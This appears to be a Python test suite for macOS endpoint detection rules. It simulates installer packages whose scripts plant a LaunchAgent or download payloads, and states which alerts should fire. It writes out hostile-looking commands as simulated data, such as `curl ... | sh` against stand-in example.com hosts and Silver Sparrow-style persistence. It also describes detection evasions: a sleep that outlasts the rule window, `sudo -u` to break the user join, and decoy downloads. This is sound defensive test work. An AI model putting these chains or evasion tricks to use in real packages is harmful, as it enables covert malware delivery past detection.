"""Packages that fetch something: the chains that macOS really makes, and the alerts they must raise."""

from case import case
from recorder import (
    BASH, CHMOD, CHOWN, CURL, INSTALLD, INSTALLER, INSTALLER_APP, LAUNCHCTL, MKDIR, PLISTBUDDY, PLUGIN_SERVICE,
    SCRIPT_SERVICE, SH, SLEEP, SUDO, SW_VERS, TERMINAL, TOUCH, Package, apple)


@case(installer=1, session=1, enrichments=1, version=9)
def silver_sparrow(mac):
    """A package whose Distribution script plants a LaunchAgent and phones home, as Silver Sparrow did.

    Tove opens update.pkg. Before anything is installed, JavaScript in its Distribution file runs bash, which writes
    an updater script, builds a LaunchAgent with PlistBuddy, loads it, and tells a server about the Mac with curl.
    Then the payload is installed and a postinstall script tidies up, while the usual services go about their work.
    Both rules alert on the curl. What the agent itself fetches was handed to launchd: it is in no install session,
    so it raises no alert of its own, but the same user's curl within 30 s of the match is written as an enrichment.
    """
    mdworker = mac.starts(apple("/System/Library/Frameworks/CoreServices.framework/Versions/A/Frameworks/"
                                "Metadata.framework/Versions/A/Support/mdworker_shared"), uid=501)
    safari = mac.runs(apple("/System/Cryptexes/App/System/Applications/Safari.app/Contents/MacOS/Safari"))
    safari.connects("198.51.100.23", 443, domain="downloads.example.net")
    mac.wait(11)
    installer = mac.starts(INSTALLER_APP, uid=501)
    mac.wait(6.5)
    support, agents = "/Users/tove/Library/Application Support/heron_updater", "/Users/tove/Library/LaunchAgents"
    script, plist = support + "/heron.sh", agents + "/init_heron.plist"

    def system_run(command):
        return installer.spawns(BASH, "/bin/bash", "-c", command)

    bash = system_run(f"mkdir -p '{support}' {agents}")
    bash.spawns(MKDIR, "mkdir", "-p", support, agents).exits()
    bash.exits()
    bash = system_run(f"printf '#!/bin/sh\\n…' > '{script}'; chmod +x '{script}'")
    bash.spawns(CHMOD, "chmod", "+x", script).exits()
    bash.exits()
    steps = ["Add :Label string init_heron", "Add :RunAtLoad bool true", "Add :StartInterval integer 3600",
             "Add :ProgramArguments array", "Add :ProgramArguments:0 string /bin/sh",
             f"Add :ProgramArguments:1 string '{script}'"]
    bash = system_run("; ".join(f'/usr/libexec/PlistBuddy -c "{step}" {plist}' for step in steps))
    for step in steps:
        bash.spawns(PLISTBUDDY, "/usr/libexec/PlistBuddy", "-c", step, plist).exits()
    bash.exits()
    bash = system_run(f"launchctl load {plist}")
    bash.spawns(LAUNCHCTL, "launchctl", "load", plist).exits()
    bash.exits()
    agent = mac.starts(SH, "/bin/sh", script, uid=501)
    mdworker.exits()
    bash = system_run("curl -s -o /tmp/heron.json https://api.heron.example.com/v2?os=$(sw_vers -productVersion)")
    bash.forks().execs(SW_VERS, "sw_vers", "-productVersion").exits()
    curl = bash.spawns(CURL, "curl", "-s", "-o", "/tmp/heron.json",
                       "https://api.heron.example.com/v2?os=26.6.2")
    mac.wait(0.08)
    curl.connects("203.0.113.80", 443, domain="api.heron.example.com")
    mac.wait(0.4)
    curl.exits()
    bash.exits()
    fetched = agent.spawns(CURL, "curl", "-fsL", "-o", "/tmp/heron", "https://cdn.heron.example.com/heron")
    mac.wait(0.3)
    fetched.connects("203.0.113.81", 443)
    fetched.exits()
    agent.exits()
    mac.wait(3)
    mac.starts(INSTALLD)
    service = mac.starts(SCRIPT_SERVICE, responsible=installer)
    package = Package(mac, "com.example.heron", "/Users/tove/Downloads/update.pkg")
    post = package.runs(service)
    post.spawns(TOUCH, "touch", "/Users/tove/Library/._done").exits()
    post.exits()
    mac.runs(apple("/usr/libexec/nsurlsessiond")).connects("198.51.100.77", 443, domain="updates.example.org")
    mac.wait(60)
    installer.exits()


def root_install(mac, name="postinstall", identifier="com.example.tool"):
    """Installs as root from Terminal with installer(8); returns the script service and the package."""
    terminal = mac.runs(TERMINAL)
    service = mac.starts(SCRIPT_SERVICE, responsible=terminal)
    return service, Package(mac, identifier, "/Users/tove/Downloads/Tool.pkg")


def fetch(mac, shell, ip="203.0.113.10", **more):
    """The shell runs curl, which connects."""
    curl = shell.spawns(CURL, "curl", "-fsSL", "-o", "/tmp/payload", "https://cdn.example.com/payload")
    mac.wait(0.15)
    return curl.connects(ip, 443, **more)


@case(installer=1, session=1, version=9)
def root_postinstall(mac):
    """A postinstall script, run as root, fetches with curl.

    installer(8) in Terminal asks installd; launchd starts the script service through xpcproxy; the service runs
    /bin/sh, which is a stub and becomes bash; bash runs curl. The shell has no `-c`. One alert of each rule, with
    Terminal as the responsible process.
    """
    terminal = mac.runs(TERMINAL, tty="/dev/ttys001")
    sudo = terminal.spawns(SUDO, "sudo", "installer", "-pkg", "Tool.pkg", "-target", "/", uid=0)
    installer = sudo.spawns(INSTALLER, "installer", "-pkg", "/Users/tove/Downloads/Tool.pkg", "-target", "/")
    mac.wait(1.1)
    service = mac.starts(SCRIPT_SERVICE, responsible=terminal)
    package = Package(mac, "com.example.tool", "/Users/tove/Downloads/Tool.pkg")
    shell = package.runs(service, interpreter=SH)
    shell.execs(BASH, *package.argv("postinstall", "/bin/sh"))
    shell.spawns(CHOWN, "chown", "-R", "root:wheel", "/Library/Tool").exits()
    fetch(mac, shell).exits()
    shell.exits()
    installer.exits()
    sudo.exits()


@case(installer=1, session=1, version=8)
def distribution_bash_c(mac):
    """JavaScript in the Distribution file runs `bash -c` in Installer.app.

    `system.run` makes bash a child of Installer itself, as the user who opened the package; the rule's names are
    case-insensitive. A pipe keeps bash alive, so curl and sh are its children. One alert of each rule.
    """
    installer = mac.starts(INSTALLER_APP, uid=501)
    mac.wait(4)
    bash = installer.spawns(BASH, "/bin/bash", "-c", "curl -fsSL https://cdn.example.com/x.sh | sh")
    curl = bash.spawns(CURL, "curl", "-fsSL", "https://cdn.example.com/x.sh")
    sh = bash.spawns(SH, "sh").execs(BASH, "sh")
    mac.wait(0.1)
    curl.connects("203.0.113.10", 443, domain="cdn.example.com").exits()
    sh.exits()
    bash.exits()


@case(installer=1, session=1, version=10)
def per_user_install(mac):
    """A package for the current user's home only: its scripts run as that user, without a password.

    installd and the script service run as uid 501, and user.id joins on 501. One alert of each rule.
    """
    mac.starts(INSTALLD, uid=501)
    service = mac.starts(SCRIPT_SERVICE, uid=501)
    package = Package(mac, "com.example.usertool", "/Users/tove/Downloads/Usertool.pkg")
    shell = package.runs(service, "preinstall")
    fetch(mac, shell).exits()
    shell.exits()


@case(installer=1, session=1, version=11)
def in_place_exec(mac):
    """bash execs its only command in place: shell and curl are one process, two images.

    The pid and process.entity_id stay, the pidversion changes. The flow names the pid, and belongs to curl, not to
    the bash that it was. One alert of each rule.
    """
    installer = mac.starts(INSTALLER_APP, uid=501)
    bash = installer.spawns(BASH, "/bin/bash", "-c", "curl -s https://cdn.example.com/a -o /tmp/a")
    curl = bash.execs(CURL, "curl", "-s", "https://cdn.example.com/a", "-o", "/tmp/a")
    mac.wait(0.1)
    curl.connects("2001:db8:40::7", 443)
    mac.wait(0.2)
    curl.exits()


@case(installer=1, session=1, version=7)
def sh_execs_bash(mac):
    """/bin/sh is a stub that execs bash: two shells by name, one process, one alert.

    Both execs satisfy the rule's first term; the second overwrites the first, and the alert shows bash.
    """
    service, package = root_install(mac)
    shell = package.runs(service, "preinstall", interpreter=SH)
    shell.execs(BASH, *package.argv("preinstall", "/bin/sh"))
    fetch(mac, shell).exits()
    shell.exits()


@case(installer=1, session=1, version=9)
def one_host_two_images(mac):
    """xpcproxy becomes the script service: the parent is the image that the shell's parent token names.

    launchd forks a process that execs xpcproxy and then, in place, the script service. One pid, three images; the
    shell's parent.name must be package_script_service, neither launchd nor xpcproxy. A second process stays
    xpcproxy a little longer and runs nothing. One alert of each rule.
    """
    other = mac.launchd.forks(uid=0)
    other.execs(apple("/usr/libexec/xpcproxy"), "xpcproxy", "com.example.other")
    service, package = root_install(mac)
    shell = package.runs(service)
    other.execs(apple("/usr/libexec/otherd"), "/usr/libexec/otherd")
    fetch(mac, shell).exits()
    shell.exits()
    other.exits()


@case(session=1, version=9)
def remote_plugin_service(mac):
    """An Installer plug-in runs a shell that downloads.

    Plug-ins run in a host of their own, InstallerRemotePluginService, which the installer rule does not name. Only
    the session rule alerts.
    """
    plugin = mac.starts(PLUGIN_SERVICE, uid=501)
    bash = plugin.spawns(BASH, "/bin/bash", "-c", "curl -s https://cdn.example.com/p; true")
    fetch(mac, bash).exits()
    bash.exits()


@case(installer=1, session=2, enrichments=1, version=9)
def one_shell_two_flows(mac):
    """A decoy: the shell downloads something harmless first, then the payload.

    The sequence is complete with the first connection. The second must not be hidden by it: it is written as an
    enrichment that follows the alert, and the session rule alerts on each.
    """
    service, package = root_install(mac)
    shell = package.runs(service)
    fetch(mac, shell, ip="198.51.100.1").exits()
    mac.wait(7)
    fetch(mac, shell, ip="203.0.113.66").exits()
    shell.exits()


@case(session=1, version=9)
def another_user(mac):
    """A root script runs its download with `sudo -u`: another user, so the join fails.

    The installer rule joins by user.id, and curl's is 501 where the shell's is 0. The session rule follows the
    lineage and alerts.
    """
    service, package = root_install(mac)
    shell = package.runs(service)
    command = ("curl", "-so", "/tmp/p", "https://cdn.example.com/p")
    sudo = shell.spawns(SUDO, "sudo", "-u", "tove", *command)
    curl = sudo.execs(CURL, *command, uid=501)
    mac.wait(0.1)
    curl.connects("203.0.113.10", 443).exits()
    shell.exits()


@case(session=1, version=9)
def sleep_31(mac):
    """The script sleeps 31 s before it downloads, to outlast the window.

    The installer rule's 30 s are over. The session rule has no window and alerts.
    """
    service, package = root_install(mac)
    shell = package.runs(service)
    pause = shell.spawns(SLEEP, "sleep", "31")
    mac.wait(31)
    pause.exits()
    fetch(mac, shell).exits()
    shell.exits()
